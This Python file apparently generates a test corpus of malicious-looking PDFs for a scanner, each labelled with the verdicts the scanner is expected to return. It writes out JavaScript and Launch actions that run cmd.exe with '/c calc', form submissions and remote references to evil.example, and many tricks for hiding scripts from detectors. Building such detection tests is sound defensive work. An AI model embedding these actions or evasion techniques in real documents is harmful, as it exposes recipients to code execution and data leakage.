"""PDF files that run, fetch, hide or lock something."""

import zlib

from .office import open_xml
from .payload import EICAR, LONG, TEXT, ZIPPED, gz, plain_zip
from .pdf import FILTERS, attachment, build, compressed, stream
from .tools import made

ACTION = ("pdf-action", "suspicious", "infected")
UNOPENED = ("infected", "not-opened")
BROKEN = ("damaged", "pdf-action", "not-opened", "infected", "suspicious", "readers-disagree")
SCRIPT = "<</S /JavaScript /JS (app.alert(1))>>"


def cases(corpus):
    attachments(corpus)
    actions(corpus)
    hidden(corpus)
    locked(corpus)
    structure(corpus)


def add(corpus, name, data, *reasons):
    corpus.add("PDF " + name, "报告.pdf", data, *reasons)


def attachments(corpus):
    for name, packer in FILTERS.items():
        add(
            corpus,
            "attachment, " + name,
            attachment(stream(packer(LONG), "/Type /EmbeddedFile", "/" + name)),
            *ACTION
        )
        reasons = UNOPENED if name == "LZWDecode" else ("infected",)
        add(
            corpus,
            "stream with the payload, " + name,
            build(objects=[stream(packer(LONG), "", "/" + name)]),
            *reasons
        )
    add(corpus, "attachment in clear", attachment(stream(EICAR, "/Type /EmbeddedFile")), "infected")
    add(corpus, "attachment of a zip", attachment(stream(ZIPPED, "/Type /EmbeddedFile")), *ACTION)
    add(
        corpus,
        "attachment of a PDF with a script",
        attachment(stream(build("/OpenAction " + SCRIPT), "/Type /EmbeddedFile")),
        *ACTION
    )
    twice = zlib.compress(FILTERS["ASCII85Decode"](LONG))
    add(
        corpus,
        "stream with the payload in two filters",
        build(objects=[stream(twice, "", "[/FlateDecode /ASCII85Decode]")]),
        "infected",
    )
    many = LONG
    for _ in range(6):
        many = zlib.compress(many)
    add(
        corpus,
        "stream with the payload in six filters",
        build(objects=[stream(many, "", "[" + "/FlateDecode " * 6 + "]")]),
        "infected",
        "not-opened",
        "damaged",
    )
    add(
        corpus,
        "stream with a zip",
        build(objects=[stream(zlib.compress(ZIPPED), "", "/FlateDecode")]),
        "infected",
    )
    add(
        corpus,
        "stream with a RAR mark",
        build(objects=[stream(zlib.compress(b"Rar!\x1a\x07\0" + ZIPPED), "", "/FlateDecode")]),
        "infected",
        "not-opened",
    )
    add(
        corpus,
        "attachment as a page's note",
        build(
            objects=[
                b"<</Type /Annot /Subtype /FileAttachment /FS 6 0 R /Rect [0 0 9 9]>>",
                b"<</Type /Filespec /F (a.txt) /EF <</F 7 0 R>>>>",
                stream(zlib.compress(LONG), "", "/FlateDecode"),
            ],
            page="/Annots [5 0 R]",
        ),
        *ACTION
    )
    add(
        corpus,
        "attachment as an associated file",
        build(
            "/AF [5 0 R]",
            [
                b"<</Type /Filespec /F (a.txt) /EF <</F 6 0 R>>>>",
                stream(zlib.compress(LONG), "", "/FlateDecode"),
            ],
        ),
        *ACTION
    )
    add(corpus, "collection of attachments", build("/Collection <</View /D>>"), *ACTION)


def actions(corpus):
    kinds = [
        ("script", SCRIPT),
        ("script in hexadecimal", "<</S /JavaScript /JS <6170702e616c6572742831293b>>>"),
        ("script by reference", "<</S /JavaScript /JS 5 0 R>>"),
        ("launch", "<</S /Launch /F (cmd.exe)>>"),
        ("launch of Windows", "<</S /Launch /Win <</F (cmd.exe) /P (/c calc)>>>>"),
        ("form that is sent", "<</S /SubmitForm /F <</FS /URL /F (http://evil.example)>>>>"),
        ("data that is read", "<</S /ImportData /F (a.fdf)>>"),
        ("document elsewhere", "<</S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit]>>"),
        ("embedded document", "<</S /GoToE /T <</R /C /N (a.pdf)>> /D [0 /Fit]>>"),
        ("rendition", "<</S /Rendition /OP 0 /JS (app.alert(1))>>"),
        ("page on the network when opened", "<</S /URI /URI (http://evil.example/)>>"),
    ]
    for name, action in kinds:
        objects = [b"(app.alert\\(1\\);)"]
        add(
            corpus,
            "opens with: " + name,
            build("/OpenAction " + action, objects),
            *ACTION,
            "active-content"
        )
        if name.startswith(("script", "launch", "form", "data")):
            add(
                corpus,
                "page opens with: " + name,
                build(page="/AA <</O %s>>" % action, objects=objects),
                *ACTION,
                "active-content"
            )
            add(
                corpus,
                "note does: " + name,
                build(
                    objects=[
                        b"<</Type /Annot /Subtype /Link /Rect [0 0 9 9] /A "
                        + action.encode().replace(b"5 0 R", b"6 0 R")
                        + b">>",
                        b"(a)",
                    ],
                    page="/Annots [5 0 R]",
                ),
                *ACTION,
                "active-content"
            )
            add(
                corpus,
                "in compressed objects: " + name,
                compressed(b"/OpenAction " + action.encode()),
                *ACTION
            )
    add(
        corpus,
        "names with scripts",
        build("/Names <</JavaScript <</Names [(a) 5 0 R]>>>>", [SCRIPT.encode()]),
        *ACTION
    )
    add(
        corpus,
        "form of XFA",
        build("/AcroForm <</XFA 5 0 R /Fields []>>", [stream(b"<xdp/>")]),
        *ACTION
    )
    for kind in ("RichMedia", "3D", "Movie", "Sound", "Screen"):
        add(
            corpus,
            "note of kind " + kind,
            build(
                objects=[("<</Type /Annot /Subtype /%s /Rect [0 0 9 9]>>" % kind).encode()],
                page="/Annots [5 0 R]",
            ),
            *ACTION,
            "active-content"
        )


def hidden(corpus):
    spelled = [
        ("J#61vaScript", "<</S /J#61vaScript /JS (a)>>"),
        ("all in hexadecimal", "<</S /#4a#61#76#61#53#63#72#69#70#74 /#4a#53 (a)>>"),
        ("JS in hexadecimal", "<</S /JavaScript /#4AS (a)>>"),
        ("Launch in hexadecimal", "<</S /L#61unch /F (a)>>"),
    ]
    for name, action in spelled:
        add(corpus, "hidden names: " + name, build("/OpenAction " + action), *ACTION)
        add(
            corpus,
            "hidden names in compressed objects: " + name,
            compressed(b"/OpenAction " + action.encode()),
            *ACTION
        )
    packed = stream(
        FILTERS["ASCIIHexDecode"](zlib.compress(b"1 0 <</OpenAction " + SCRIPT.encode() + b">>")),
        "/Type /ObjStm /N 1 /First 4",
        "[/ASCIIHexDecode /FlateDecode]",
    )
    add(corpus, "script in objects packed twice", build(objects=[packed]), *ACTION)
    for name, filters, data in [
        ("LZW", "/LZWDecode", FILTERS["LZWDecode"]),
        ("ASCII85", "/ASCII85Decode", FILTERS["ASCII85Decode"]),
        ("run length", "/RunLengthDecode", FILTERS["RunLengthDecode"]),
        ("filter name in hexadecimal", "/Fl#61teDecode", zlib.compress),
    ]:
        body = stream(
            data(b"1 0 <</OpenAction " + SCRIPT.encode() + b">>"),
            "/Type /ObjStm /N 1 /First 4",
            filters,
        )
        add(
            corpus,
            "script in objects packed by " + name,
            build(objects=[body]),
            *ACTION,
            "not-opened"
        )
    short = stream(
        zlib.compress(b"1 0 <</OpenAction " + SCRIPT.encode() + b">>"),
        "/Type /ObjStm /N 1 /First 4",
        "/Fl",
    )
    add(corpus, "script in objects packed under a short name", build(objects=[short]), *ACTION)
    lie = stream(
        zlib.compress(b"1 0 <</OpenAction " + SCRIPT.encode() + b">>"),
        "/Type /ObjStm /N 1 /First 4",
        "/FlateDecode",
    )
    lie = lie[: lie.index(b"/Length")] + b"/Length 3>>" + lie[lie.index(b"\nstream") :]
    add(corpus, "script in objects whose length lies", build(objects=[lie]), *BROKEN)
    prefix = stream(
        b"\0" * 5 + zlib.compress(b"1 0 <</OpenAction " + SCRIPT.encode() + b">>"),
        "/Type /ObjStm /N 1 /First 4",
        "/FlateDecode",
    )
    add(corpus, "packed objects that do not unpack", build(objects=[prefix]), *BROKEN)
    update = (
        build()
        + b"7 0 obj\n"
        + SCRIPT.encode()
        + b"\nendobj\n1 0 obj\n<</Type /Catalog /Pages 2 0 R /OpenAction 7 0 R>>\nendobj\ntrailer\n<</Size 8 /Root 1 0 R>>\n%%EOF\n"
    )
    add(corpus, "script in a later version of itself", update, *ACTION)
    add(
        corpus,
        "script behind white space in the dictionary",
        build("/OpenAction <</S\n\t/JavaScript\0/JS\f(a)>>"),
        *ACTION
    )
    add(
        corpus,
        "script behind comments",
        build("/OpenAction <</S %/x\n/JavaScript /JS %(\n(a)>>"),
        *ACTION
    )


def locked(corpus):
    plain = build(objects=[stream(zlib.compress(LONG), "", "/FlateDecode")])
    for name, options in [
        ("user password, 40 bits", ["user", "owner", "40", "--allow-weak-crypto"]),
        ("user password, 128 bits", ["user", "owner", "128", "--use-aes=n"]),
        ("user password, AES 128", ["user", "owner", "128", "--use-aes=y"]),
        ("user password, AES 256", ["user", "owner", "256"]),
        ("silent: owner password, 40 bits", ["", "owner", "40"]),
        ("silent: owner password, 128 bits", ["", "owner", "128", "--use-aes=n"]),
        ("silent: owner password, AES 256", ["", "owner", "256"]),
    ]:
        user, owner, bits, *rest = options
        weak = ["--allow-weak-crypto"] if bits != "256" else []
        rest = [r for r in rest if r != "--allow-weak-crypto"]
        data = made(
            {"in.pdf": plain},
            ["qpdf", *weak, "--encrypt", user, owner, bits, *rest, "--", "in.pdf", "out"],
        )
        corpus.add(
            ("" if name.startswith("silent") else "PDF with ")
            + name.replace("silent: ", "silent: PDF with "),
            "报告.pdf",
            data,
            "encrypted-document",
        )
        corpus.add(
            "PDF in a zip with " + name.replace("silent: ", ""),
            "材料.zip",
            plain_zip([("a.pdf", data)]),
            "encrypted-document",
        )
    add(
        corpus,
        "with a stream under a crypt filter",
        build(objects=[stream(LONG[::-1], "", "/Crypt")]),
        "encrypted-document",
        "damaged",
        "not-opened",
    )
    add(
        corpus,
        "with an encrypted attachment package",
        build(
            "/Collection <</View /H>> /AF [5 0 R]",
            [
                b"<</Type /Filespec /AFRelationship /EncryptedPayload /F (a.pdf) /EF <</F 6 0 R>>>>",
                stream(TEXT, "/Type /EmbeddedFile"),
            ],
        ),
        *ACTION,
        "encrypted-document"
    )


def structure(corpus):
    for name in ("Mystery", "BrotliDecode", "Fl#ateDecode", "flatedecode"):
        corpus.add(
            "silent: PDF with the unknown filter " + name,
            "报告.pdf",
            build(objects=[stream(zlib.compress(LONG), "", "/" + name)]),
            *BROKEN
        )
    add(
        corpus,
        "with the unknown filter in an array",
        build(objects=[stream(zlib.compress(LONG), "", "[/FlateDecode /Mystery]")]),
        *BROKEN
    )
    add(
        corpus,
        "with a filter by reference",
        build(objects=[b"/Mystery", stream(LONG[::-1], "", "5 0 R")]),
        *BROKEN
    )
    add(
        corpus,
        "with data in a file outside",
        build(
            objects=[
                b"<</F (http://evil.example/a) /FFilter /FlateDecode /Length 0>>\nstream\n\nendstream"
            ]
        ),
        *BROKEN,
        "active-content"
    )
    whole = build(
        objects=[
            stream(zlib.compress(LONG * 5), "", "/FlateDecode"),
            stream(zlib.compress(TEXT * 50)),
        ]
    )
    for share in (20, 50, 75):
        add(
            corpus,
            "cut at %d %%" % share,
            whole[: len(whole) * share // 100],
            *BROKEN,
            "mismatch",
            "type",
            "type-unknown"
        )
    at = whole.index(b"stream\n", whole.index(b"/FlateDecode")) + 60
    add(corpus, "with a damaged stream", whole[:at] + b"\xff" * 40 + whole[at + 40 :], *BROKEN)
    add(
        corpus,
        "with a mark 900 bytes late",
        b"\n" * 900 + build("/OpenAction " + SCRIPT),
        *ACTION,
        "damaged",
        "polyglot",
        "mismatch"
    )
    add(
        corpus,
        "with a zip behind",
        build() + ZIPPED,
        "polyglot",
        "infected",
        "damaged",
        "readers-disagree",
    )
    add(
        corpus,
        "with a gzip behind",
        build() + gz(LONG),
        "polyglot",
        "infected",
        "damaged",
        "not-opened",
    )
    add(
        corpus,
        "with bytes of unknown kind behind",
        build() + bytes(range(256)) * 40,
        "polyglot",
        "damaged",
        "not-opened",
    )
    add(
        corpus,
        "in a zip, infected",
        plain_zip([("a.pdf", build(objects=[stream(zlib.compress(LONG), "", "/FlateDecode")]))]),
        "infected",
    )
    corpus.add(
        "PDF with a script in a docx",
        "报告.docx",
        open_xml("docx", [("word/embeddings/a.pdf", build("/OpenAction " + SCRIPT))]),
        "pdf-action",
        "active-content",
    )
    corpus.add(
        "PDF with a script in a zip",
        "材料.zip",
        plain_zip([("a.pdf", build("/OpenAction " + SCRIPT))]),
        *ACTION
    )
    corpus.add(
        "PDF with a script in a zip under another name",
        "材料.zip",
        plain_zip([("a.txt", build("/OpenAction " + SCRIPT))]),
        *ACTION
    )
    corpus.add("PDF with a script named txt", "报告.txt", build("/OpenAction " + SCRIPT), *ACTION)
